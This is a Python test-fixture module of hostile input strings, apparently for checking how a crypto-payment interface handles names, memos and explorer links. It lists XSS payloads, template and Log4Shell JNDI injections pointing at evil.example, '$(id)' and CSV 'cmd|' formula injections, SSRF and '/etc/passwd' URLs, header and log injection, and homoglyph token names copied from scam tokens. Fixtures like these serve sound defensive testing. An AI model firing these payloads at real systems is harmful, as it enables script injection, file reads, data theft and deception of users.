# ruff: noqa: RUF001
"""Hostile strings for names, memos and reasons.

The homoglyphs are those of real imitation tokens. The marks reverse, hide or stack letters.
"""

from typing import Final

TAGS: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1)>claim</a>",
    "<div style=position:fixed;inset:0>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<x id=receipt>",
    "<",
]
OUT_OF_A_VALUE: Final = [
    '"><script>alert(1)</script>',
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(2) x='",
    '" autofocus onfocus=alert(1) "',
    "` onmouseover=alert(3) `",
    '"',
    "'",
    "\\",
    '\\"><img src=x onerror=alert(1)>',
]
OUT_OF_A_PLACE: Final = [
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</bdi></dd></dl></section>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "<!--",
    "]]><script>alert(1)</script>",
    "</entry></feed>",
]
ENTITIES: Final = [
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&amp;",
    "&quot;&gt;",
    "&bogus;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(2)＜/script＞",
]
TEMPLATES: Final = [
    "{{7*7}}",
    "${7*7}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{#",
    "%s%n%d",
    "$(id)",
    "${jndi:ldap://evil.example/x}",
]
OF_THE_LIBRARY: Final = [
    "<div hx-get=/operator hx-trigger=load>",
    "<div hx-on::load=alert(1)>",
    '" hx-get="/operator" hx-trigger="load" "',
    "<hx-partial hx-target=body>",
    "<meta name=htmx-config content='{}'>",
]
ADDRESSES: Final = [
    "javascript:alert(1)",
    "JaVa\tScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://claim.evil.example/",
    "//evil.example",
    "[Claim](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
]
LINES: Final = [
    "paid\n\ndata: <b>x</b>\n\n",
    "paid\r\n\r\nevent: done\r\ndata: x",
    "x\r\nSet-Cookie: a=b",
    "x\nid: 1\nretry: 1",
    "x\u2028data: y\u2029",
    "x\n2026-11-22 00:00:00 ERROR root: forged",
    'x"}\n{"level": "ERROR", "message": "forged"}',
    "\x1b[31mred\x1b[0m",
    "\x00",
]
FORMULAS: Final = [
    '=HYPERLINK("https://evil.example","Claim")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    '"=1+1"',
    "a,b;c|d",
]
POLYGLOTS: Final = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><svg onload=alert(1)>",
    "\"'></title><img src=x onerror=alert(1)>{{7*7}}\n\ndata: x",
    "<![CDATA[<!--<script>]]>\"'`;=(",
]
XSS: Final = [
    *(*TAGS, *OUT_OF_A_VALUE, *OUT_OF_A_PLACE, *ENTITIES, *TEMPLATES),
    *(*OF_THE_LIBRARY, *ADDRESSES, *LINES, *FORMULAS, *POLYGLOTS),
]

# As tokens were really called: Cherokee, Armenian, Cyrillic and Georgian letters, a Roman numeral.
HOMOGLYPHS: Final = {
    "ՍSᎠ Ⅽօіn": "USD Coin",
    "USDТ": "USDT",
    "UЅDС": "USDC",
    "ЕТН": "ETH",
    "DАІ": "DAI",
}

HIDDEN: Final = [
    *map(chr, (*range(0x20), *range(0x7F, 0xA0))),
    *map(chr, (0xAD, 0x34F, 0x61C, 0x115F, 0x3164, 0xFEFF, 0xFFA0)),
    *map(chr, (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), *range(0xFFF9, 0xFFFC))),
    *map(chr, (0xE0001, 0xE0041, 0xE007F, 0xE000, 0xFDD0, 0x10FFFF)),
]
TURNED: Final = [
    "USDC\u202eCDSU",
    "\u2067usdc\u2069",
    "مرحبا 100",
    "דולר 5,000",
    "\u202a\u202a\u202aUSDC",
    "a\u2066b\u2067c\u2068d",
]
ODD: Final = [
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́",
    "\ud800",
    "x\udfffy",
    "U\u200bS\u200bD\u200bC",
    "\ufeffUSDC",
    "👨‍👩‍👧‍👦",
    "\U000e0055\U000e0053\U000e0044",
    "I\u0307STANBUL",
    "ﷺﷺﷺ",
    " ",
    "\u3000\u3000",
    "",
    "𝐔𝐒𝐃𝐂",
    "W" * 5_000,
    "W\n" * 3_000,
]
UNICODE: Final = [*HOMOGLYPHS, *TURNED, *ODD, "".join(HIDDEN)]

# Each stands where the address of an explorer or of a picture is expected. None may become a link or be asked for.
URLS: Final = [
    "javascript:alert(1)",
    "JaVa\tScript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "http://etherscan.io",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "/operator",
    "?x",
    "https:evil.example",
    "https://",
    "https://etherscan.io@evil.example",
    "https://user:pass@etherscan.io",
    "https://evil.example\\@etherscan.io",
    "https://etherscan.io%00.evil.example",
    "https://etherscan.io:8443",
    "https://еthеrscan.io",
    "https://127.0.0.1",
    "https://[::1]",
    "https://169.254.169.254/latest/meta-data",
    "https://localhost",
    "https://etherscan.io/?q=",
    "https://etherscan.io/%2e%2e/x",
    'https://etherscan.io/"onmouseover=alert(1)//',
    "https://etherscan.io\r\nX: y",
    " https://etherscan.io",
    "https://etherscan..io",
    f"https://{'a' * 300}.example",
    "https://etherscan.io" + "/a" * 200,
]
